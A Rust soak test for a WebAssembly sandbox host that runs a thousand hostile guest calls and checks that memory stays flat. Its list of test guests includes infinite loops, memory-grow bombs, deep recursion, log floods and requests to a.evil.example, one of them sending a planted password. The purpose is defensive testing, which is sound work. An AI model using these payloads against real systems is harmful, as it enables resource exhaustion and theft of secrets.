//! Hostile calls by the thousand, and what they leave in the host: nothing.

use std::process::Command;

use super::planted::{self, TOKENS};
use super::room::{Room, thief};
use crate::ask::{Ask, Auth, LOG_IT};
use crate::cloud::{Cloud, answer};
use crate::guest::{Credential, Entry, Guest};

/// Calls before the first look at the memory, and after it.
const WARM_UP: usize = 200;
const CALLS: usize = 1_000;

/// What pools and allocators may take meanwhile.
const SLACK_BYTES: usize = 8 << 20;

/// Says to a copy of this process that the memory is its alone.
const ALONE: &str = "PANGOLIN_TEST_ALONE";

#[test]
#[expect(clippy::disallowed_methods, reason = "tells the copy of this test from the test")]
fn a_thousand_hostile_calls_leave_memory_flat() {
    if std::env::var_os(ALONE).is_some() {
        tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap().block_on(soak());
        return;
    }
    // Other tests of this process would be seen in its memory.
    let this = std::env::current_exe().unwrap();
    let name = "attack::soak::a_thousand_hostile_calls_leave_memory_flat";
    let output = Command::new(this).args(["--exact", name, "--nocapture"]).env(ALONE, "1").output().unwrap();
    let said = String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success() && said.contains("1 passed"), "{said}");
}

async fn soak() {
    let cloud = Cloud::forgetting(|seen| match seen.host.as_str() {
        TOKENS => answer(seen.bytes.clone()),
        _ => answer("x".repeat(300_000)),
    });
    let room = Room::with(misdeeds(), cloud, "cpu_ms = 10\nwall_ms = 500").await;
    let names: Vec<String> = (0..misdeeds().len()).map(|number| format!("Bad{number}")).collect();
    let mut calls = 0;
    let mut before = 0;
    while calls < WARM_UP + CALLS {
        for strategy in &names {
            let outcome = room.host.vend(strategy).await;
            assert!(outcome.is_err(), "{strategy}");
            calls += 1;
            if calls == WARM_UP {
                before = resident_bytes();
            }
        }
        room.host.vend("Good").await.unwrap();
    }
    let after = resident_bytes();
    assert!(after < before + SLACK_BYTES, "{before} bytes after {WARM_UP} calls, {after} after {calls}");
}

/// One of each kind.
fn misdeeds() -> Vec<Guest> {
    let bad = |wat: &str| thief().vending(wat);
    let deep = "(func $deep (param i32) (result i32) (i32.add (i32.const 1) (call $deep (local.get 0))))";
    let log = |guest: Guest| guest.importing("log", "log", "(param i32 i32 i32)");
    let ask = |host: &str| Ask::get(format!("https://{host}/")).with(Auth::None);
    let wide = Credential { prefix: "s3://lake/".to_owned(), ..Credential::default() };
    let slot = Credential { entries: vec![Entry::Slot("s3.session-token", "foreign")], ..Credential::default() };
    let known = Credential {
        entries: vec![Entry::Plain("s3.session-token", planted::value("token").as_bytes().to_vec())],
        ..Credential::default()
    };
    vec![
        bad("(loop $l (br $l))"),
        bad("unreachable"),
        bad(
            "(drop (memory.grow (i32.const 900))) (memory.fill (i32.const 65536) (i32.const 7) (i32.const 40000000)) unreachable",
        ),
        bad("(loop $l (drop (memory.grow (i32.const 16))) (br $l))"),
        Guest { items: deep.to_owned(), ..bad("(drop (call $deep (i32.const 0)))") },
        log(bad("(loop $l (call $log (i32.const 2) (i32.const 0) (i32.const 500)) (br $l))")),
        bad("(i32.store (i32.const 1032) (i32.const -1)) (return (i32.const 1024))"),
        bad("(return (i32.const -16))"),
        bad("").answering(vec![wide]),
        bad("").answering(vec![slot]),
        bad("").answering(vec![known]),
        bad("").answering((0..200).map(|_| Credential::default()).collect()),
        bad("").asking(vec![ask("127.0.0.1")]),
        bad("").asking(vec![ask("a.evil.example"); 4]),
        log(Guest { between: LOG_IT.to_owned(), ..bad("").asking(vec![ask("b.evil.example")]) }),
        bad("").asking(vec![Ask { auth: Auth::Bearer("token"), ..ask(TOKENS) }]),
        bad("").asking(vec![ask("a.evil.example").body(planted::value("password"))]),
        bad("")
            .asking(vec![Ask { captures: vec![("got", "/a")], ..ask(TOKENS).body("{\"a\":\"some-token-or-other\"}") }]),
    ]
}

/// Memory of this process that is in use.
fn resident_bytes() -> usize {
    let statm = std::fs::read_to_string("/proc/self/statm").unwrap();
    let pages: usize = statm.split(' ').nth(1).unwrap().parse().unwrap();
    pages * 4096
}
